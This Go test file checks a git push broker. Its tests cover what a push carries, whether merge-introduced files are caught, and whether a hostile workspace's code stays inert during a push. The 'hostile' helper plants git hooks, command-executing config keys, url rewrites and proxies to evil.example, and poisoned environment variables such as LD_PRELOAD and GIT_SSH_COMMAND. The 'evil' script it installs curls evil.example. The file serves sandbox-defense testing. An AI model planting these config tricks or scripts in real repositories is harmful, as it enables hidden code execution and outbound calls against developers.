package broker_test

import (
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/tidemark/tidemark/internal/box/broker"
)

// A push carries what its question says, and the workspace knows afterwards.
func TestPush(t *testing.T) {
	o := newOffice(t)
	o.Must("git switch -qc fix-12 && echo b > b.txt && git add b.txt && git commit -qm 'add b' && echo c >> a.txt && git commit -qam 'change a'")
	q := o.do("git push -u origin fix-12")
	if q.Host != host || q.Remote != "origin" || q.Place != "web.git" || len(q.Commits) != 2 || q.Commits[0].Subject != "change a" || q.Commits[0].Author != "d <d@acme.example>" ||
		len(q.Refs) != 1 || q.Refs[0].Name != "refs/heads/fix-12" || q.Refs[0].To != o.here("HEAD") || q.Force {
		t.Errorf("%+v", q)
	}
	slices.SortFunc(q.Files, func(a, b broker.File) int { return strings.Compare(a.Path, b.Path) })
	if len(q.Files) != 2 || q.Files[0] != (broker.File{Path: "a.txt", Added: 1}) || q.Files[1] != (broker.File{Path: "b.txt", Added: 1}) {
		t.Errorf("%+v", q.Files)
	}
	if head := o.here("HEAD"); o.there("fix-12") != head || o.here("refs/remotes/origin/fix-12") != head || o.here("@{upstream}") != head {
		t.Errorf("there %s, tracked %s", o.there("fix-12"), o.here("refs/remotes/origin/fix-12"))
	}
	o.Must("git commit -q --amend -m 'change a again'")
	d, err := o.prepare("git push")
	if err != nil {
		t.Fatal(err)
	}
	if code, out, err := o.run(d); code == 0 || err != nil {
		t.Errorf("what must be forced was not: %v\n%s", err, out)
	}
	if q := o.do("git push --force-with-lease origin fix-12"); !q.Force || o.there("fix-12") != o.here("HEAD") {
		t.Errorf("%+v", q)
	}
	o.do("git push origin --delete fix-12")
	if o.there("fix-12") != "" || o.here("refs/remotes/origin/fix-12") != "" {
		t.Error("it is still there")
	}
	o.only()
}

// What a merge brings itself, and none of its parents has, is named as well.
func TestAMergeHidesNothing(t *testing.T) {
	o := newOffice(t)
	o.Must("git switch -qc side && echo s > s.txt && git add s.txt && git commit -qm s && git switch -q main && echo m > m.txt && git add m.txt && git commit -qm m" +
		" && git merge -q --no-commit side && echo evil > hidden.yml && git add hidden.yml && git commit -qm merge")
	d, err := o.prepare("git push origin main")
	if err != nil {
		t.Fatal(err)
	}
	if !slices.ContainsFunc(d.Question.Files, func(f broker.File) bool { return f.Path == "hidden.yml" && f.Added > 0 }) || len(d.Question.Commits) != 3 {
		t.Errorf("%+v", d.Question)
	}
}

// evil writes a program that shows that it ran: in the workspace, and with the capability, at the server. It names programs by their
// paths: it is called like some of them itself, and must not start itself again and again.
func (o *office) evil(name string) string {
	path := filepath.Join(o.Work, name)
	o.Put(path, "#!/bin/sh\n/usr/bin/touch "+o.Work+"/ran-"+filepath.Base(name)+" 2>/dev/null\n/usr/bin/curl -sk --max-time 5 https://"+host+":"+o.port+"/evil/"+filepath.Base(name)+
		" >/dev/null 2>&1\n/usr/bin/curl -sk --max-time 5 https://evil.example/ >/dev/null 2>&1\necho EVIL\n")
	return path
}

// hostile makes the workspace's repository one that runs what it can wherever it can.
func (o *office) hostile() {
	o.t.Helper()
	x := o.evil("x.sh")
	for _, hook := range []string{"pre-push", "reference-transaction", "post-checkout", "post-merge", "fsmonitor-watchman", "pre-auto-gc", "post-index-change"} {
		o.Put(filepath.Join(o.Work, ".git/hooks", hook), "#!/bin/sh\nexec "+x+"\n")
	}
	for _, name := range []string{"git", "git-remote-https", "curl", "ssh", "gpg"} {
		o.evil(filepath.Join("bin", name))
	}
	o.Put(filepath.Join(o.Work, ".git/more"), "[core]\n\tsshCommand = "+x+"\n\tfsmonitor = "+x+"\n")
	o.Put(filepath.Join(o.Work, ".git/info/attributes"), "* filter=evil diff=evil merge=evil\n")
	o.Put(filepath.Join(o.Work, ".gitattributes"), "* filter=evil diff=evil merge=evil\n")
	o.Put(filepath.Join(o.Work, ".gitmodules"), "[submodule \"s\"]\n\tpath = s\n\turl = https://evil.example/s.git\n")
	f, err := os.OpenFile(filepath.Join(o.Work, ".git/config"), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		o.t.Fatal(err)
	}
	defer f.Close()
	_, err = io.WriteString(f, strings.ReplaceAll(`[core]
	sshCommand = X
	fsmonitor = X
	askPass = X
	pager = X
	editor = X
	gitProxy = X
	hooksPath = .git/hooks
	alternateRefsCommand = X
[credential]
	helper = "!X"
[credential "https://git.acme.example"]
	helper = "!X"
[include]
	path = more
[url "https://evil.example/"]
	insteadOf = https://git.acme.example
	pushInsteadOf = https://git.acme.example
[remote "origin"]
	receivepack = X
	uploadpack = X
	proxy = http://evil.example:80
	push = +refs/heads/*:refs/heads/*
	mirror = true
[alias]
	push = !X
	ls-remote = !X
	update-ref = !X
[filter "evil"]
	clean = X
	smudge = X
	process = X
	required = true
[diff]
	external = X
[diff "evil"]
	textconv = X
	command = X
[merge "evil"]
	driver = X
[gpg]
	program = X
[push]
	gpgSign = true
	recurseSubmodules = on-demand
	default = matching
	followTags = true
[log]
	showSignature = true
[http]
	proxy = http://evil.example:80
	sslVerify = false
	followRedirects = true
	extraHeader = X-Evil: 1
[protocol]
	allow = always
[protocol "ext"]
	allow = always
[submodule]
	recurse = true
[gc]
	auto = 1
[uploadpack]
	packObjectsHook = X
[transfer]
	credentialsInUrl = allow
[sequence]
	editor = X
`, "X", x))
	if err != nil {
		o.t.Fatal(err)
	}
	o.Env = append(o.Env, "GIT_SSH_COMMAND="+x, "GIT_ASKPASS="+x, "GIT_EXEC_PATH="+o.Work+"/bin", "GIT_PROXY_COMMAND="+x, "GIT_EXTERNAL_DIFF="+x, "LD_PRELOAD="+o.Work+"/x.so",
		"GIT_CONFIG_PARAMETERS='core.fsmonitor="+x+"'", "BASH_ENV="+x, "ENV="+x)
	for i, e := range o.Env {
		if strings.HasPrefix(e, "PATH=") {
			o.Env[i] = "PATH=" + o.Work + "/bin:" + strings.TrimPrefix(e, "PATH=")
		}
	}
}

// BOX-02: Nothing of a hostile workspace runs while there is the capability: it could use it.
func TestNoCodeOfTheWorkspaceRunsInAPush(t *testing.T) {
	o := newOffice(t)
	o.Must("git switch -qc fix && echo b > b.txt && git add b.txt && git commit -qm b")
	head := o.here("HEAD")
	env := o.Env
	o.hostile()
	if out, _ := hostilePlain(o); !strings.Contains(out, "ran-") {
		t.Fatalf("without the broker nothing of it runs either: the test proves nothing\n%s", out)
	}
	o.mu.Lock()
	o.seen = nil
	o.mu.Unlock()
	q := o.do("git push origin fix")
	o.Env = env
	if o.there("fix") != head || len(q.Commits) != 1 || q.Host != host {
		t.Errorf("there %s, want %s: %+v", o.there("fix"), head, q)
	}
	o.only()
}

// hostilePlain pushes without the broker, as far as that comes, and lists what ran.
func hostilePlain(o *office) (string, error) {
	cmd := exec.Command("bash", "-c", "rm -f ran-*; /usr/bin/git status >/dev/null 2>&1; ls; rm -f ran-*")
	cmd.Dir = o.Work
	cmd.Env = []string{"HOME=" + o.Home, "PATH=/usr/bin:/bin", "GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=safe.directory", "GIT_CONFIG_VALUE_0=*"}
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// A tainted session can say that everything is over there already. Then its question would name nothing, and so nothing is sent.
func TestAPushCarriesOnlyWhatItsQuestionNamed(t *testing.T) {
	o := newOffice(t)
	o.Must("git switch -qc fix && echo SECRET > b.txt && git add b.txt && git commit -qm b && git update-ref refs/remotes/origin/other HEAD")
	d, err := o.prepare("git push origin fix")
	if err != nil {
		t.Fatal(err)
	}
	if len(d.Question.Commits) != 0 {
		t.Fatalf("the forgery does not work: %+v", d.Question)
	}
	if _, out, err := o.run(d); !errors.Is(err, broker.ErrChanged) || o.there("fix") != "" {
		t.Errorf("%v, there %q\n%s", err, o.there("fix"), out)
	}
	o.Must("git update-ref -d refs/remotes/origin/other")
	if d, err = o.prepare("git push origin fix"); err != nil || len(d.Question.Commits) != 1 {
		t.Fatalf("%v %+v", err, d)
	}
	asked := o.here("HEAD")
	o.Must("echo more > c.txt && git add c.txt && git commit -qm more")
	if code, out, err := o.run(d); code != 0 || err != nil || o.there("fix") != asked {
		t.Errorf("%d %v: there %s, asked %s\n%s", code, err, o.there("fix"), asked, out)
	}
	o.only()
}
